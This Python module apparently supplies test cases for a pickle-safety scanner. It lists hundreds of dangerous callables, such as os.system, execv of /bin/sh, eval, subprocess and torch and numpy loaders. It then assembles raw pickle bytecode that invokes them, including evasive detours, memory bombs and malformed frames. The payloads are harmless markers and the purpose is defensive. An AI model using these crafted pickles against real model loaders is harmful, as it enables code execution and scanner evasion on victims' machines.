"""What an attacker puts in a pickle: functions that run or harm, and detours to them."""

from __future__ import annotations

import struct

# One line each: module, name, arguments (Python literals). All are called in every way there is.
CALLS = """
os system ('touch RAN',)
posix system ('touch RAN',)
nt system ('echo RAN',)
os popen ('touch RAN',)
os execv ('/bin/sh', ('sh',))
os posix_spawn ('/bin/sh', ('sh',), None)
os remove ('x',)
os rename ('x', 'y')
os symlink ('x', 'y')
os putenv ('LD_PRELOAD', 'x')
os kill (1, 9)
os _exit (0,)
posixpath exists ('x',)
subprocess Popen ('touch RAN',)
subprocess run ('touch RAN',)
subprocess check_output ('touch RAN',)
subprocess getoutput ('touch RAN',)
_posixsubprocess fork_exec ('x',)
commands getoutput ('touch RAN',)
popen2 popen2 ('touch RAN',)
pty spawn ('sh',)
builtins eval ('1',)
builtins exec ('1',)
builtins compile ('1', 'x', 'exec')
builtins open ('x', 'w')
builtins getattr ('x', 'y')
builtins __import__ ('antigravity',)
builtins map ('x', ('y',))
builtins filter ('x', ('y',))
builtins zip (('y',),)
builtins type ('X', (), None)
builtins breakpoint ()
builtins input ('x',)
builtins memoryview (b'x',)
builtins super ()
builtins vars ()
builtins globals ()
builtins exit (0,)
builtins print ('x',)
__builtin__ eval ('1',)
__builtin__ execfile ('x',)
__builtin__ file ('x', 'w')
__builtin__ apply ('x', ())
__builtin__ reduce ('x', ())
__builtin__ raw_input ('x',)
__builtins__ eval ('1',)
future_builtins map ('x', ())
itertools imap ('x', ())
itertools starmap ('x', ())
itertools repeat ('x',)
itertools accumulate ((), 'x')
functools reduce ('x', ())
functools partialmethod ('x',)
functools lru_cache ('x',)
functools singledispatch ('x',)
operator methodcaller ('x',)
operator attrgetter ('__class__',)
operator itemgetter (0,)
operator call ('x',)
_operator methodcaller ('x',)
_functools reduce ('x', ())
types FunctionType ('x', None)
types CodeType (0, 0)
types MethodType ('x', 'y')
types ModuleType ('x',)
types new_class ('x',)
types DynamicClassAttribute ('x',)
types coroutine ('x',)
weakref finalize ('x', 'y')
weakref WeakMethod ('x',)
copyreg add_extension ('posix', 'system', 1)
copyreg pickle ('x', 'y')
copyreg constructor ('x',)
copyreg remove_extension ('posix', 'system', 1)
copy_reg add_extension ('posix', 'system', 1)
enum EnumMeta ('X', (), None)
enum Enum ('X', 'a b')
typing NamedTuple ('X',)
typing get_type_hints ('x',)
typing ForwardRef ('x',)
typing.io IO ('x',)
dataclasses make_dataclass ('X', ())
collections namedtuple ('X', 'a b')
collections Counter.update ('x',)
statistics NormalDist.from_samples ((),)
random seed (0,)
random setstate ((),)
re sub ('x', 'y', 'z')
re compile ('(a+)+$',)
string Formatter.format ('x', 'y')
string Template.substitute ('x',)
abc ABCMeta ('X', (), None)
abc update_abstractmethods ('x',)
time sleep (1000000,)
argparse FileType ('w',)
argparse ArgumentParser ('x',)
pathlib Path.write_text ('x', 'y')
pathlib Path.unlink ('x',)
pathlib PosixPath.touch ('x',)
pathlib os.system ('touch RAN',)
pathlib io.open ('x', 'w')
random _os.system ('touch RAN',)
zoneinfo reset_tzpath ((),)
uuid os.system ('touch RAN',)
uuid getnode ()
uuid _load_system_functions ()
marshal loads (b'x',)
pickle loads (b'x',)
pickle Unpickler (b'x',)
_pickle loads (b'x',)
cPickle loads ('x',)
shelve open ('x',)
dbm open ('x',)
code interact ()
code InteractiveInterpreter ()
codeop compile_command ('1',)
_codecs register ('x',)
codecs open ('x', 'w')
codecs decode (b'x', 'zip')
_codecs decode (b'x', 'rot13')
importlib import_module ('antigravity',)
importlib.util module_from_spec ('x',)
importlib.machinery SourceFileLoader ('x', 'y')
_frozen_importlib _load ('x',)
_imp create_dynamic ('x',)
imp load_source ('x', 'y')
pkgutil get_loader ('x',)
pkgutil resolve_name ('os:system',)
pydoc locate ('os.system',)
pydoc pipepager ('x', 'touch RAN')
runpy run_path ('x.py',)
runpy run_module ('antigravity',)
runpy _run_code ('x', None)
zipimport zipimporter ('x.zip',)
timeit timeit ('1',)
timeit main (('x',),)
profile run ('1',)
cProfile run ('1',)
cProfile runctx ('1', None, None)
trace Trace ()
pdb run ('1',)
bdb Bdb ()
doctest debug_script ('1',)
doctest testfile ('x',)
unittest main ()
test.support script_helper ('x',)
idlelib.pyshell main ()
idlelib.run Executive ('x',)
lib2to3.pgen2.driver load_grammar ('x',)
distutils.spawn spawn (('touch', 'RAN'),)
distutils.file_util write_file ('x', ('y',))
distutils.core run_setup ('setup.py',)
setuptools.sandbox run_setup ('setup.py', ())
setuptools setup ()
pip main (('install', 'x'),)
pip._internal.cli.main main (('install', 'x'),)
pkg_resources run_script ('x', 'y')
ensurepip bootstrap ()
ensurepip _run_pip (('x',),)
venv create ('x',)
site addsitedir ('x',)
sysconfig _main ()
sys setrecursionlimit (9,)
sys settrace ('x',)
sys.modules pop ('os',)
gc get_objects ()
inspect getsource ('x',)
ctypes CDLL ('libc.so.6',)
ctypes string_at (0,)
_ctypes dlopen ('libc.so.6', 0)
ctypes.util find_library ('x',)
mmap mmap (0, 4096)
tempfile NamedTemporaryFile ()
tempfile mktemp ()
shutil rmtree ('x',)
shutil copyfile ('x', 'y')
shutil unpack_archive ('x', 'y')
glob glob ('*',)
fileinput input ('x',)
linecache getlines ('x',)
io open ('x', 'w')
io FileIO ('x', 'w')
_io open ('x', 'w')
_io FileIO ('x', 'w')
_pyio open ('x', 'w')
tarfile open ('x',)
zipfile ZipFile ('x',)
gzip open ('x', 'w')
bz2 open ('x', 'w')
lzma open ('x', 'w')
csv reader ('x',)
webbrowser open ('http://example.org',)
webbrowser get ('touch RAN %s',)
antigravity geohash (1, 2, 'x')
smtplib SMTP ('example.org',)
ftplib FTP ('example.org',)
poplib POP3 ('example.org',)
imaplib IMAP4_stream ('touch RAN',)
nntplib NNTP ('example.org',)
telnetlib Telnet ('example.org',)
socket create_connection (('example.org', 80),)
_socket socket ()
ssl get_server_certificate (('example.org', 443),)
socketserver TCPServer (('', 80), 'x')
urllib.request urlopen ('http://example.org',)
urllib.request urlretrieve ('http://example.org', 'x')
urllib urlopen ('http://example.org',)
urllib2 urlopen ('http://example.org',)
http.client HTTPSConnection ('example.org',)
http.server test ()
httplib HTTPConnection ('example.org',)
xmlrpc.client ServerProxy ('http://example.org',)
xmlrpclib ServerProxy ('http://example.org',)
wsgiref.simple_server make_server ('', 80, 'x')
asyncio run ('x',)
asyncio.subprocess create_subprocess_shell ('touch RAN',)
asyncio.base_subprocess BaseSubprocessTransport ('x',)
asyncio.unix_events _UnixSubprocessTransport._start ('x',)
multiprocessing Process ()
multiprocessing.context Process ()
multiprocessing.util spawnv_passfds (b'/bin/sh', (), ())
multiprocessing.managers BaseManager ('x',)
multiprocessing.reduction _reduce_partial ('x',)
multiprocessing.shared_memory SharedMemory ('x',)
multiprocessing.connection Client ('x',)
concurrent.futures ProcessPoolExecutor (1,)
concurrent.futures.process _process_worker ('x',)
threading Thread (None, 'x')
_thread start_new_thread ('x', ())
sched scheduler ()
signal signal (2, 'x')
atexit register ('x',)
faulthandler dump_traceback_later (1,)
contextlib ExitStack ()
logging basicConfig ()
logging.config fileConfig ('x',)
logging.config dictConfig (None,)
logging.config BaseConfigurator (None,)
logging.handlers SMTPHandler ('x', 'y', 'z', 'w')
logging FileHandler ('x',)
configparser ConfigParser ()
plistlib load ('x',)
xml.etree.ElementTree parse ('x',)
xml.sax parse ('x', 'y')
sqlite3 connect ('x',)
_sqlite3 enable_callback_tracebacks (1,)
curses wrapper ('x',)
tkinter Tk ()
turtle Screen ()
readline read_history_file ('x',)
rlcompleter Completer ()
cmd Cmd ()
platform popen ('touch RAN',)
platform _syscmd_ver ('x',)
getpass getpass ()
pwd getpwnam ('root',)
resource setrlimit (0, (0, 0))
syslog syslog ('x',)
crypt crypt ('x', 'y')
pipes Template ()
cgitb handler ()
cgi test ()
uu decode ('x', 'y')
mailbox mbox ('x',)
mailcap findmatch ('x',)
smtpd SMTPServer ('x', 'y')
asyncore loop ()
asynchat async_chat ()
py_compile compile ('x',)
compileall compile_dir ('x',)
modulefinder ModuleFinder ()
symtable symtable ('1', 'x', 'exec')
ast literal_eval ('1',)
dis dis ('1',)
tabnanny check ('x',)
json load ('x',)
json.tool main ()
netrc netrc ('x',)
nturl2path url2pathname ('x',)
_winreg SetValue (0, 'x', 1, 'y')
winreg CreateKey (0, 'x')
msvcrt getch ()
winsound PlaySound ('x', 0)
_winapi CreateProcess ('x',)
_xxsubinterpreters run_string (0, '1')
_interpreters run_string (0, '1')
_interpreters exec (0, '1')
concurrent.interpreters create ()
compression.zstd open ('x', 'w')
ConfigParser ConfigParser ()
Tkinter Tk ()
gdbm open ('x', 'c')
dbhash open ('x', 'c')
SimpleXMLRPCServer SimpleXMLRPCServer (('', 80),)
_aix_support _read_cmd_output ('touch RAN',)
_osx_support _read_output ('touch RAN',)
_pyrepl.pager pipe_pager ('x', 'touch RAN')
torch load ('x.pt',)
torch save ('x', 'y')
torch from_file ('x', True, 9)
torch.serialization load ('x.pt',)
torch.serialization _open_file ('x', 'w')
torch.serialization os.system ('touch RAN',)
torch.storage io.open ('x', 'w')
torch.jit load ('x.pt',)
torch.jit._serialization load ('x.pt',)
torch.jit.unsupported_tensor_ops execWrapper ('1', None, None)
torch.jit._script script ('x',)
torch.hub load ('x/y', 'z')
torch.hub load_state_dict_from_url ('http://example.org/x',)
torch.hub download_url_to_file ('http://example.org/x', 'y')
torch hub.load ('x/y', 'z')
torch ops.load_library ('x.so',)
torch._ops ops.load_library ('x.so',)
torch.classes load_library ('x.so',)
torch.utils.cpp_extension load_inline ('x', 'y')
torch.utils.cpp_extension load ('x', ('y',))
torch.utils.bottleneck.__main__ run_cprofile ('1', None)
torch.utils.bottleneck.__main__ run_autograd_prof ('1', None)
torch.utils.collect_env run ('touch RAN',)
torch.utils.data.datapipes.utils.decoder basichandlers ('pickle', b'x')
torch.utils.data _utils.worker._worker_loop ('x',)
torch.utils.tensorboard SummaryWriter ('x',)
torch.utils._config_module ConfigModule.load_config (b'x',)
torch._inductor.codecache compile_file ('x', 'y', 'z')
torch._inductor.codecache CUDACodeCache ('x',)
torch._inductor.runtime.compile_tasks _reload_python_module ('x', 'y')
torch._dynamo.debug_utils run_fwd_maybe_bwd ('x', 'y')
torch._dynamo.guards GuardBuilder.get ('x', '1')
torch._dynamo optimize ('x',)
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression ('1', ())
torch.fx.graph_module reduce_graph_module ('x', 'y')
torch.fx.graph_module _forward_from_src ('1', None)
torch.fx.graph_module _exec_with_source ('1', None)
torch.fx.graph_module GraphModule ('x', 'y')
torch.package PackageImporter ('x',)
torch.package package_importer.PackageImporter ('x',)
torch.distributed.rpc rpc_sync ('x', 'y')
torch.distributed.run main ()
torch.distributed.launcher.api elastic_launch ('x', 'y')
torch.distributed.elastic.multiprocessing start_processes ('x', 'y')
torch.distributed.checkpoint load ('x',)
torch.distributed.checkpoint.filesystem FileSystem.rm_file ('x', 'y')
torch.multiprocessing spawn ('x',)
torch.multiprocessing.spawn _wrap ('x', 'y')
torch.onnx export ('x', 'y', 'z')
torch.export load ('x',)
torch._export.serde.serialize deserialize ('x',)
torch.profiler profile ()
torch.autograd.profiler load_nvprof ('x',)
torch.cuda.memory _record_memory_history ('x',)
torch.ao.quantization.utils getattr_from_fqn ('x', 'y')
torch._C import_ir_module ('x',)
torch._C PyTorchFileReader ('x',)
torch._C PyTorchFileWriter ('x',)
torch._C._jit_to_backend x ('y',)
torch.nn.modules.module load_state_dict ('x',)
torch.nn Module.apply ('x', 'y')
torch.nn functional.warnings.sys.modules ('x',)
torch.nn.functional importlib.import_module ('antigravity',)
torch.optim.optimizer Optimizer.__setstate__ ('x', 'y')
torch.testing._internal.common_utils shell ('x',)
torch._tensor _rebuild_from_type ('x', 'y', (), None)
torch._tensor os.system ('touch RAN',)
torch._utils _import_dotted_name ('os.system',)
torch._utils sys.modules.get ('os',)
torch._utils _get_available_device_type ()
torchvision.datasets.utils download_url ('http://example.org', 'x')
torchaudio load ('x',)
numpy load ('x.npy', None, True)
numpy save ('x', 'y')
numpy savetxt ('x', (1,))
numpy fromfile ('x',)
numpy memmap ('x',)
numpy genfromtxt ('x',)
numpy frompyfunc ('x', 1, 1)
numpy vectorize ('x',)
numpy apply_along_axis ('x', 0, ())
numpy fromfunction ('x', (1,))
numpy piecewise ((), (), ('x',))
numpy.testing runstring ('1', None)
numpy.testing._private.utils runstring ('1', None)
numpy.testing rundocs ('x',)
numpy.f2py compile ('x',)
numpy.f2py.crackfortran myeval ('1',)
numpy.f2py.crackfortran param_eval ('1', None, None, None)
numpy.f2py.capi_maps getinit ('1', 'x')
numpy.f2py.diagnose run_command ('touch RAN',)
numpy.distutils.exec_command exec_command ('touch RAN',)
numpy.distutils.cpuinfo getoutput ('touch RAN',)
numpy.lib.npyio DataSource ('x',)
numpy.lib._datasource open ('x', 'w')
numpy.lib.utils safe_eval ('1',)
numpy.ctypeslib load_library ('x', 'y')
numpy.core.multiarray fromfile ('x',)
numpy._core.multiarray fromfile ('x',)
numpy._core.records fromfile ('x',)
numpy._core._internal os.system ('touch RAN',)
numpy._globals os.system ('touch RAN',)
numpy core.os.system ('touch RAN',)
scipy.io loadmat ('x',)
scipy.io.arff loadarff ('x',)
scipy.integrate quad ('x', 0, 1)
joblib load ('x',)
joblib.numpy_pickle load ('x',)
joblib.numpy_pickle NumpyArrayWrapper.read ('x',)
joblib.parallel Parallel (2,)
joblib.externals.loky.backend.spawn prepare ('x',)
joblib.memory MemorizedFunc ('x', 'y')
sklearn.utils.metaestimators available_if ('x',)
sklearn.utils.fixes parse ('x',)
sklearn.datasets fetch_openml ('x',)
pandas read_pickle ('x',)
pandas eval ('1',)
pandas.io.common get_handle ('x', 'w')
pandas.io.clipboard determine_clipboard ()
pandas.core.computation.eval eval ('1',)
transformers pipeline ('x',)
transformers AutoModel.from_pretrained ('x/y', None, True)
transformers.utils.hub cached_file ('x', 'y')
transformers.dynamic_module_utils get_class_from_dynamic_module ('x', 'y')
transformers.dynamic_module_utils get_class_in_module ('x', 'y')
transformers.utils.import_utils os.system ('touch RAN',)
transformers.training_args os.system ('touch RAN',)
transformers.training_args TrainingArguments ('x',)
transformers.training_args OptimizerNames (1, 2)
transformers.trainer_utils set_seed (1,)
transformers.generation.configuration_utils GenerationConfig.from_pretrained ('x',)
transformers.testing_utils run_test_in_subprocess ('x', 'y', 'z')
transformers.commands.run try_infer_format_from_ext ('x',)
accelerate.launchers notebook_launcher ('x',)
accelerate.commands.launch launch_command ('x',)
accelerate.state os.system ('touch RAN',)
accelerate.state PartialState (True,)
huggingface_hub snapshot_download ('x/y',)
huggingface_hub hf_hub_download ('x/y', 'z')
datasets load_dataset ('x',)
trl SFTConfig ('x',)
peft PeftModel.from_pretrained ('x', 'y')
dill loads (b'x',)
dill._dill _create_code ('x',)
dill._dill _import_module ('os.system',)
cloudpickle loads (b'x',)
cloudpickle.cloudpickle _builtin_type ('x',)
cloudpickle.cloudpickle subimport ('os',)
cloudpickle.cloudpickle _make_function ('x', None, 'y', None, None)
jsonpickle decode ('x',)
yaml unsafe_load ('x',)
yaml load ('x',)
ruamel.yaml load ('x',)
hydra.utils instantiate (None,)
omegaconf.resolvers oc.env ('x',)
requests get ('http://example.org',)
httpx get ('http://example.org',)
aiohttp ClientSession ()
IPython.core.interactiveshell InteractiveShell.system ('touch RAN',)
IPython start_ipython ()
fsspec open ('x', 'w')
paramiko SSHClient ()
pexpect spawn ('touch RAN',)
sh Command ('touch',)
plumbum local ('touch',)
fabric Connection ('x',)
invoke run ('touch RAN',)
pytest main (('x',),)
_pytest.config main (('x',),)
nose main ()
py._path.local LocalPath.sysexec ('x',)
git Repo.clone_from ('x', 'y')
flask Flask ('x',)
jinja2 Template ('x',)
mako.template Template ('x',)
django.utils.module_loading import_string ('os.system',)
werkzeug.utils import_string ('os.system',)
sympy sympify ('1',)
numexpr evaluate ('1',)
numba jit ('x',)
cffi FFI ()
triton compile ('x',)
tensorflow load_library ('x.so',)
tensorflow io.write_file ('x', 'y')
keras.models load_model ('x',)
matplotlib.cbook _unpickle ('x',)
six exec_ ('1',)
six.moves builtins.eval ('1',)
past.builtins execfile ('x',)
pywin32_bootstrap x ()
win32api WinExec ('x',)
__main__ run ('x',)
__main__ os.system ('touch RAN',)
evil f ('x',)
evil.sub Class ('x', 1)
"""


def text(word: str) -> bytes:
    """Opcode that pushes a string."""
    raw = word.encode("utf-8", "surrogatepass")
    return b"X" + struct.pack("<I", len(raw)) + raw


def given(value: object) -> bytes:
    """Opcodes that push an argument."""
    if value is None:
        return b"N"
    if value is True:
        return b"\x88"
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    if isinstance(value, bytes):
        return b"C" + bytes([len(value)]) + value
    if isinstance(value, str):
        return text(value)
    return b"(" + b"".join(map(given, value)) + b"t"


def lines(module: str, name: str) -> bytes:
    return f"{module}\n{name}\n".encode()


def ways_to_name(module: str, name: str) -> dict[str, bytes]:
    """Opcodes that look a name up, and leave it on the stack."""
    stored = text(module) + b"q\x070" + text(name) + b"q\x080h\x07h\x08\x93"
    escaped = "".join(f"\\x{ord(letter):02x}" for letter in module)
    return {
        "GLOBAL": b"c" + lines(module, name),
        "STACK_GLOBAL": text(module) + text(name) + b"\x93",
        "STACK_GLOBAL by memo": stored,
        "STACK_GLOBAL of an escaped STRING": f"S'{escaped}'\n".encode() + text(name) + b"\x93",
    }


def ways_to_call(module: str, name: str, arguments: tuple) -> dict[str, bytes]:
    """Whole pickles that call it."""
    pushed = b"".join(map(given, arguments))
    made = {}
    for way, named in ways_to_name(module, name).items():
        made[f"{way}, REDUCE"] = b"\x80\x04" + named + b"(" + pushed + b"tR."
    named = b"c" + lines(module, name)
    made["INST"] = b"(" + pushed + b"i" + lines(module, name) + b"."
    made["OBJ"] = b"(" + named + pushed + b"o."
    made["thrown away"] = b"\x80\x02" + named + b"(" + pushed + b"tR0}."
    made["then torn"] = b"\x80\x02" + named + b"(" + pushed + b"tR\xff"
    made["in a dict"] = b"\x80\x02}" + text("w") + named + b"(" + pushed + b"tRs."
    proxy = b"\x80\x02ccopyreg\n__newobj__\n(" + named + pushed + b"tR."
    made["by a partial"] = b"\x80\x02cfunctools\npartial\n(" + named + pushed + b"tR)R."
    if arguments:
        made["NEWOBJ"] = b"\x80\x02" + named + b"(" + pushed + b"t\x81."
        made["NEWOBJ_EX"] = b"\x80\x04" + named + b"(" + pushed + b"t}\x92."
        made["by __newobj__"] = proxy
    return made


def calls() -> list[tuple[str, str, tuple]]:
    """The list above."""
    import ast

    found = []
    for line in CALLS.strip().splitlines():
        module, name, arguments = line.split(" ", 2)
        found.append((module, name, ast.literal_eval(arguments)))
    return found


# --- detours: no line of the list, but a chain

PATH = b"cpathlib\nPosixPath\n(" + text("victim") + b"tR"
UNLINK = text("pathlib") + text("PosixPath.unlink") + b"\x93"  # only a class's method, by name
NAMESPACE = b"cargparse\nNamespace\n)\x81"
FUNCTION = b"csome.where\nfunction\n"


def mapping(*pairs: bytes, kind: bytes = b"}") -> bytes:
    """A dictionary of these keys and values."""
    return kind + b"(" + b"".join(pairs) + b"u"


DEFAULTDICT = b"ccollections\ndefaultdict\n)R"
COUNTER = b"ccollections\nCounter\n)R"
EXTENSION = b"ccopyreg\nadd_extension\n(" + text("posix") + text("system") + b"K\x01tR0\x82\x01."
INNER = b"cos\nsystem\n(" + text("touch victim") + b"tR."
DTYPE = b"cnumpy\ndtype\n(" + text("O8") + b"\x89\x88tR"
WRAPPER = b"cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81"
SHAPE = text("shape")
FLOATS = text("dtype") + b"cnumpy\ndtype\n(" + text("u1") + b"\x89\x88tR"


def joblib_array(*pairs: bytes) -> bytes:
    return WRAPPER + mapping(*pairs) + b"b"


def little(number: int) -> bytes:
    return struct.pack("<I", number)


def framed(length: int) -> bytes:
    return b"\x95" + struct.pack("<Q", length)


def number_type(code: str, *state: bytes) -> bytes:
    """A dtype of numpy, and what it is told afterwards."""
    made = b"cnumpy\ndtype\n(" + text(code) + b"\x89\x88tR"
    return made + b"(K\x03" + text("|") + b"".join(state) + b"tb" if state else made


OBJECTS = number_type("O8")
NUMBERS = number_type("f8")
NAMES = text("a") + b"\x85"
SIZED = b"K\x08K\x01K\x10"  # eight bytes, flags of a structure


def fields(kind: bytes, offset: int) -> bytes:
    return b"}q\x05" + text("a") + kind + b"K" + bytes([offset]) + b"\x86s"


DETOURS = {  # name → pickle after the protocol byte; all of them must be DANGER
    "a function behind _rebuild_from_type": b"ctorch._tensor\n_rebuild_from_type\n("
    + UNLINK
    + b"ctorch\nTensor\n"
    + PATH
    + b"\x85NtR.",
    "a function behind _rebuild_from_type_v2": b"ctorch._tensor\n_rebuild_from_type_v2\n("
    + UNLINK
    + b"ctorch\nTensor\n"
    + PATH
    + b"\x85NtR.",
    "a function behind numpy's generator": b"cnumpy.random._pickle\n__generator_ctor\n("
    + PATH
    + UNLINK
    + b"tR.",
    "a class behind numpy's generator": b"cnumpy.random._pickle\n__bit_generator_ctor\n("
    + b"csome.where\nClass\ntR.",
    "a partial behind numpy's generator": b"cnumpy.random._pickle\n__generator_ctor\n("
    + text("x")
    + b"cfunctools\npartial\n("
    + FUNCTION
    + b"tRtR.",
    "a function behind pandas": b"cpandas.core.indexes.base\n_new_Index\n(" + FUNCTION + b"}tR.",
    "append set on an object": NAMESPACE + mapping(text("append"), UNLINK) + b"b" + PATH + b"a.",
    "append set by an OrderedDict": NAMESPACE
    + mapping(text("append"), UNLINK, kind=b"ccollections\nOrderedDict\n)R")
    + b"b"
    + PATH
    + b"a.",
    "append set as a slot": NAMESPACE
    + b"N"
    + mapping(text("append"), UNLINK)
    + b"\x86b("
    + PATH
    + b"e.",
    "add set on an object": NAMESPACE + mapping(text("add"), UNLINK) + b"b(" + PATH + b"\x90.",
    "__setstate__ set on an object": NAMESPACE
    + mapping(text("__setstate__"), UNLINK)
    + b"b"
    + PATH
    + b"b.",
    "__setstate__ set by a defaultdict": NAMESPACE
    + mapping(text("__setstate__"), UNLINK, kind=DEFAULTDICT)
    + b"b"
    + PATH
    + b"b.",
    "__setstate__ set by a Counter": NAMESPACE
    + mapping(text("__setstate__"), UNLINK, kind=COUNTER)
    + b"b"
    + PATH
    + b"b.",
    "__setstate__ set by pairs": NAMESPACE
    + b"ccollections\nOrderedDict\n]"
    + text("__setstate__")
    + UNLINK
    + b"\x86a\x85Rb"
    + PATH
    + b"b.",
    "__setstate__ set by a UserDict": NAMESPACE
    + b"ccollections\nUserDict\n"
    + mapping(text("__setstate__"), UNLINK)
    + b"\x85Rb"
    + PATH
    + b"b.",
    "__setstate__ of numpy's text": NAMESPACE
    + mapping(b"cnumpy\nstr_\n" + text("__setstate__") + b"\x85R", UNLINK)
    + b"b"
    + PATH
    + b"b.",
    "__setstate__ set on an OrderedDict": b"ccollections\nOrderedDict\n)R"
    + mapping(text("__setstate__"), UNLINK)
    + b"b"
    + PATH
    + b"b.",
    "__class__ of an object": NAMESPACE
    + mapping(text("__class__"), b"csome.where\nClass\n")
    + b"b.",
    "a state for a class": b"cargparse\nNamespace\n" + mapping(text("x"), b"K\x01") + b"b.",
    "a state for a module": b"csome\nmodule\n" + mapping(text("x"), FUNCTION) + b"b.",
    "an item for a class": b"csome.where\nTABLE\n" + text("x") + FUNCTION + b"s.",
    "an item for sys.modules": b"csys\nmodules\n" + text("os") + FUNCTION + b"s.",
    "more for a list of a module": b"csome.where\nHOOKS\n" + FUNCTION + b"a.",
    "a hook before the call": b"ctorch._utils\n_rebuild_parameter\n(N\x88"
    + b"ccollections\nOrderedDict\n)RK\x01"
    + FUNCTION
    + b"stR.",
    "an extension": EXTENSION,
    "a computed module": b"cbuiltins\nstr\n)R" + text("system") + b"\x93.",
    "a computed name": text("posix")
    + b"c_codecs\nencode\n("
    + text("system")
    + text("latin1")
    + b"tR\x93.",
    "a name of bytes": b"C\x05posixC\x06system\x93.",
    "a name of an old string": b"U\x07p\xff\xfeosix" + text("system") + b"\x93.",
    "the result is called": b"ccollections\nOrderedDict\n)R)R.",
    "an argument is called": b"csome.where\nClass\n)\x81)R.",
    "called with a list": b"cbuiltins\nset\n]R.",
    "dotted from an allowed class": text("collections")
    + text("OrderedDict.fromkeys.__self__")
    + b"\x93.",
    "dotted from torch": text("torch") + text("nn.functional.warnings.sys.modules") + b"\x93.",
    "dotted from the Trainer": text("transformers.training_args") + text("os.system") + b"\x93.",
    "a pickle in bytes": b"ctorch.storage\n_load_from_bytes\nB"
    + little(len(INNER))
    + INNER
    + b"\x85R.",
    "a ZIP in bytes": b"ctorch.storage\n_load_from_bytes\nC\x04PK\x03\x04\x85R.",
    "bytes of an object array": b"cnumpy._core.numeric\n_frombuffer\n(C\x08AAAAAAAA"
    + DTYPE
    + b"K\x01\x85"
    + text("C")
    + b"tR.",
    "an object scalar": b"cnumpy._core.multiarray\nscalar\n" + DTYPE + b"C\x08AAAAAAAA\x86R.",
    "a field of objects": b"N" + number_type("V8", b"N", NAMES, fields(OBJECTS, 0), SIZED) + b".",
    "a field beyond the end": number_type("V8", b"N", NAMES, fields(NUMBERS, 1), SIZED) + b".",
    "a field put in later": number_type("V8", b"N", NAMES, fields(NUMBERS, 0), SIZED)
    + b"h\x05"
    + text("a")
    + OBJECTS
    + b"K\x00\x86s.",
    "flags of objects": number_type("V8", b"N", NAMES, fields(NUMBERS, 0), b"K\x08K\x01K\x3f")
    + b".",
    "repeated objects": number_type("V8", OBJECTS + b"K\x01\x85\x86", b"NN", b"K\x08K\x01K\x00")
    + b".",
    "repeated beyond the end": number_type(
        "V8", NUMBERS + b"K\x09\x85\x86", b"NN", b"K\x08K\x01K\x00"
    )
    + b".",
    "another size": number_type("S8", b"NNN", b"K\x10K\x01K\x00") + b".",
    "in joblib's bytes": joblib_array(SHAPE, b"K" + bytes([len(INNER)]) + b"\x85", FLOATS)
    + INNER
    + b".",
    "behind joblib's bytes": joblib_array(SHAPE, b"K\x04\x85", FLOATS) + b"N00N" + INNER,
    "two shapes for joblib": joblib_array(SHAPE, b"K\x40\x85", FLOATS, SHAPE, b"K\x04\x85")
    + b"\xff\xff\xff\xff"
    + INNER.ljust(60, b".")
    + b".",
    "an object array of joblib": joblib_array(SHAPE, b"K\x01\x85", text("dtype") + DTYPE)
    + INNER
    + b".",
    "a memory bomb": b"cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R.",
    "a memo bomb": b"Nr\xff\xff\xff\x7f.",
    "a memo bomb in text": b"Np2147483647\n.",
    "a frame that cuts a name": framed(5) + b"cjunkposix\nsystem\n.",
    "a frame that cuts a string": framed(7)
    + b"X\x04\0\0\0ospo"
    + b"Nsix"
    + text("system")
    + b"\x93.",
    "a frame in a frame": framed(40) + framed(5) + b"NNNNN.",
    "a frame beyond STOP": framed(30) + b"N." + INNER.ljust(28, b"x"),
}
